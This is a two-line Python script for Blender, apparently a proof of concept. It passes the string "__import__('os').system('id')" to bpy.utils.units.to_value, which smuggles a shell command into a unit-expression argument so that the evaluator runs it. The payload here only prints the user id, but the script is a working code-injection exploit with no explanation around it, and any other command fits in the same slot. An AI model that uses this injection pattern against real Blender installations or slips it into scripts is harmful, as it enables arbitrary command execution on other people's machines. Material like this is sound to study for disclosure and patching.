import bpy
bpy.utils.units.to_value("NONE", "NONE", "__import__('os').system('id')")
